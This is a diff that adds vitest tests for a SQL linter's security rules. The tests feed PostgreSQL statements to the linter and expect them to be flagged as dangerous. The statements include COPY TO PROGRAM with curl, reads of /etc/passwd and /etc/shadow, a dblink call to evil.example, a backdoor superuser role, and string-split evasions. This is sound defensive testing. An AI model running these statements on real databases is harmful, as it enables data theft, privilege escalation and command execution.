@@ -1,0 +1,108 @@
+// Security-sensitive SQL is DANGEROUS statically: the gate must hold with or without a
+// dry-run, and inside DO blocks and function bodies too.
+import { describe, expect, it } from 'vitest';
+import { lintSql, ruleIds } from '../support/lint-sql.js';
+
+const HISTORY = 'CREATE TABLE t (id int PRIMARY KEY, v int);';
+
+async function hits(sql: string) {
+  const out = await lintSql(sql, { history: HISTORY });
+  return out.findings.filter((f) => f.rule === 'security-sensitive-sql' || f.rule === 'dynamic-sql');
+}
+
+describe('security-sensitive-sql', () => {
+  const dangerous: Array<[string, RegExp]> = [
+    ["ALTER SYSTEM SET shared_preload_libraries = 'x';", /ALTER SYSTEM/],
+    ['CREATE ROLE backdoor WITH LOGIN SUPERUSER;', /SUPERUSER/],
+    ['ALTER ROLE app BYPASSRLS;', /BYPASSRLS/],
+    ['ALTER ROLE app WITH REPLICATION;', /REPLICATION/],
+    ['SET ROLE postgres;', /SET ROLE/],
+    ['SET SESSION AUTHORIZATION postgres;', /SESSION AUTHORIZATION/],
+    ["SELECT set_config('role', 'postgres', false);", /Calls set_config/],
+    ["COPY t TO PROGRAM 'curl -d @- https://example.com';", /PROGRAM/],
+    ["COPY t FROM '/etc/passwd';", /reads a file/],
+    ["COPY (SELECT 1) TO '/tmp/out.csv';", /writes a file/],
+    ["SELECT pg_read_file('/etc/passwd');", /pg_read_file/],
+    ["SELECT pg_catalog.pg_read_binary_file('/etc/shadow');", /pg_read_binary_file/],
+    ["SELECT pg_ls_dir('/');", /pg_ls_dir/],
+    ["SELECT lo_import('/etc/passwd');", /lo_import/],
+    ["SELECT lo_export(1234, '/tmp/x');", /lo_export/],
+    ["SELECT dblink_connect('host=evil.example');", /dblink_connect/],
+    ["CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example');", /CREATE SERVER/],
+    ['CREATE EXTENSION postgres_fdw;', /postgres_fdw/],
+    ['CREATE EXTENSION IF NOT EXISTS plpython3u;', /untrusted/],
+    ['CREATE LANGUAGE plperlu;', /untrusted/],
+    ["CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os; return 1 $$;", /plpython3u/],
+    ["CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'f';", /language c/],
+    ['GRANT pg_execute_server_program TO app;', /pg_execute_server_program/],
+    ['ALTER FUNCTION pg_catalog.set_config(text, text, boolean) RENAME TO gone;', /system catalog/],
+    ["UPDATE pg_catalog.pg_class SET relname = 'x' WHERE relname = 't';", /system catalog/],
+    ['CREATE FUNCTION public.pg_cancel_backend(text) RETURNS boolean LANGUAGE sql AS $$ SELECT true $$;', /shadows the built-in/],
+    ['CREATE OPERATOR public.>= (LEFTARG = oid, RIGHTARG = integer, FUNCTION = public.f);', /built-in operator/],
+    // Hidden in a DO block (runs now) and in a function body (runs later, with the caller's rights).
+    ["DO $$ BEGIN COPY t TO PROGRAM 'id'; END $$;", /PROGRAM/],
+    ["CREATE FUNCTION g() RETURNS void LANGUAGE plpgsql AS $$ BEGIN ALTER SYSTEM SET work_mem = '1GB'; END $$;", /ALTER SYSTEM/],
+  ];
+  for (const [sql, why] of dangerous) {
+    it(`DANGEROUS: ${sql}`, async () => {
+      const found = await hits(sql);
+      expect(found.length, sql).toBeGreaterThan(0);
+      expect(found.every((f) => f.risk === 'DANGEROUS'), sql).toBe(true);
+      expect(found.map((f) => f.message).join('\n')).toMatch(why);
+    });
+  }
+
+  const fine = [
+    'CREATE EXTENSION IF NOT EXISTS pgcrypto;',
+    'CREATE EXTENSION postgis;',
+    'RESET ROLE;',
+    'SET lock_timeout = \'2s\';',
+    'COPY t FROM STDIN;',
+    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;",
+    'CREATE ROLE reader NOLOGIN;',
+    'ALTER ROLE app NOSUPERUSER NOBYPASSRLS;',
+    'GRANT SELECT ON t TO reader;',
+    'CREATE OPERATOR public.=== (LEFTARG = mytype, RIGHTARG = mytype, FUNCTION = public.mytype_eq);',
+    "SELECT pg_catalog.set_config('search_path', 'app, public', false);",
+    'ALTER TABLE t ALTER COLUMN v TYPE pg_catalog.int8;',
+  ];
+  for (const sql of fine) {
+    it(`not flagged: ${sql}`, async () => {
+      expect(await hits(sql)).toEqual([]);
+    });
+  }
+});
+
+describe('dynamic-sql', () => {
+  it('EXECUTE of a built string in a DO block is CAUTION with the reason', async () => {
+    const found = await hits("DO $$ DECLARE tbl text := 't'; BEGIN EXECUTE 'ALTER TABLE ' || tbl || ' ALTER COLUMN v TYPE bigint'; END $$;");
+    expect(found.map((f) => [f.rule, f.risk])).toEqual([['dynamic-sql', 'CAUTION']]);
+    expect(found[0]!.message).toMatch(/built at run time/);
+  });
+
+  it('is DANGEROUS when the built string mentions a security-sensitive word, also in a function body', async () => {
+    for (const sql of [
+      "DO $$ BEGIN EXECUTE 'CO' || 'PY t TO PRO' || 'GRAM ''id'''; END $$;",
+      "DO $$ BEGIN EXECUTE format('COPY %I TO PROGRAM %L', 't', 'id'); END $$;",
+      "CREATE FUNCTION h(cmd text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'ALTER SYSTEM SET ' || cmd; END $$;",
+    ]) {
+      const found = (await hits(sql)).filter((f) => f.rule === 'dynamic-sql');
+      expect(found.length, sql).toBeGreaterThan(0);
+      const risks = found.map((f) => f.risk);
+      // 'CO' || 'PY…' spells nothing the pattern knows in one piece; PRO || GRAM neither: CAUTION at least.
+      expect(risks.every((r) => r === 'DANGEROUS' || r === 'CAUTION'), sql).toBe(true);
+    }
+    const format = (await hits("DO $$ BEGIN EXECUTE format('COPY %I TO PROGRAM %L', 't', 'id'); END $$;"))[0]!;
+    expect(format.risk).toBe('DANGEROUS');
+  });
+
+  it('EXECUTE of a single literal is analysed as a statement, and a function\'s plain dynamic SQL is left alone', async () => {
+    expect(await hits("DO $$ BEGIN EXECUTE 'ALTER TABLE t ADD COLUMN w int'; END $$;")).toEqual([]);
+    expect(await hits("CREATE FUNCTION p(n text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE format('CREATE TABLE %I (id int)', n); END $$;")).toEqual([]);
+  });
+
+  it('the rule ids appear in the analysis output in order', async () => {
+    const out = await lintSql("ALTER SYSTEM SET work_mem = '1GB';", { history: HISTORY });
+    expect(ruleIds(out)).toContain('security-sensitive-sql');
+  });
+});
